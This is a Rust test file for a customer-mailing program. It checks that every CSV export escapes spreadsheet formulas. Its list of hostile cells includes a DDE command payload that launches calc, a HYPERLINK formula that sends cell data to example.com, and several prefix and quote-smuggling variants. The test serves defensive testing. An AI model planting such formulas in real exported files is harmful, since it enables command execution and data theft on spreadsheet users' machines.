//! Whatever customers are called, no CSV of the program has a formula, and every text in it can be read back.

use std::collections::BTreeSet;

use crate::support::{Shop, files_below};

/// Texts that a spreadsheet would execute, or did once.
const HOSTILE: [&str; 12] = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Ida\")",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "＠SUM(1)",
    "\"=1+1",
    "a\",=1+1",
];

#[test]
fn no_csv_holds_a_formula() {
    let shop = Shop::without_people();
    let cell = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let mut people = "Customer ID,Last Name,City,Street,Postcode,Post Consent\n".to_owned();
    let mut sales = "Customer ID,Date,Item,Amount\n".to_owned();
    for (n, text) in HOSTILE.iter().enumerate() {
        let text = cell(text);
        people += &format!("C{n},{text},{text},1 Main St,{text},\n");
        sales += &format!("C{n},2024-02-0{},{text},{n}5.00\n", n % 9 + 1);
    }
    let more: String = HOSTILE.iter().map(|text| format!("{0},{0},Oslo,2 Main St,1,{0}\n", cell(text))).collect();
    shop.write("people.csv", format!("{people}{more}"));
    shop.write("sales.csv", sales);
    shop.run("import customers people.csv --skip-bad").says("12 rows left out; they are in out/people-left-out.csv");
    shop.run("import purchases sales.csv").quiet();
    shop.write("best.csv", shop.run("best --csv").quiet().out());
    shop.edit("campaigns/spring.toml", "spend_12m >= 50 AND", "spend_12m > 0 AND");
    let branch = "\n[[branch]]\nname = \"=1+1\"\nwhen = \"true\"\n";
    shop.write("campaigns/spring.toml", shop.read("campaigns/spring.toml") + branch);
    shop.run("plan spring").quiet();
    shop.run("print spring --leave-out-problems").status(3).says("address does not fit the window").says("no font has");
    shop.run("print spring --list --leave-out-problems").status(3).says("no font has");
    shop.run("posted spring --on 2024-03-01").says("2 letters of it were never printed");
    shop.write("report.csv", shop.run("report spring --csv").quiet().out());
    let written =
        ["best.csv", "report.csv", "out/spring/manifest.csv", "out/spring/list.csv", "out/people-left-out.csv"];
    let is_table = |path: &String| path.rsplit('.').next() == Some("csv");
    let all: Vec<String> = files_below(&shop.path()).into_keys().filter(is_table).collect();
    let others: Vec<&String> = all.iter().filter(|path| !written.contains(&path.as_str())).collect();
    assert_eq!(
        others,
        ["customers.csv", "people.csv", "purchases.csv", "sales.csv"],
        "a CSV that is not looked at here"
    );
    let mut met = BTreeSet::new();
    for path in written {
        let text = shop.read(path);
        let mut table = csv::ReaderBuilder::new().flexible(true).from_reader(text.as_bytes());
        for cell in table.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
            let begins = cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＠']);
            assert!(!begins || cell.parse::<f64>().is_ok(), "{path}: {cell:?}");
            met.extend(cell.strip_prefix('\'').map(str::to_owned));
        }
    }
    assert!(met.len() >= 8, "too few hostile texts came so far: {met:?}");
}
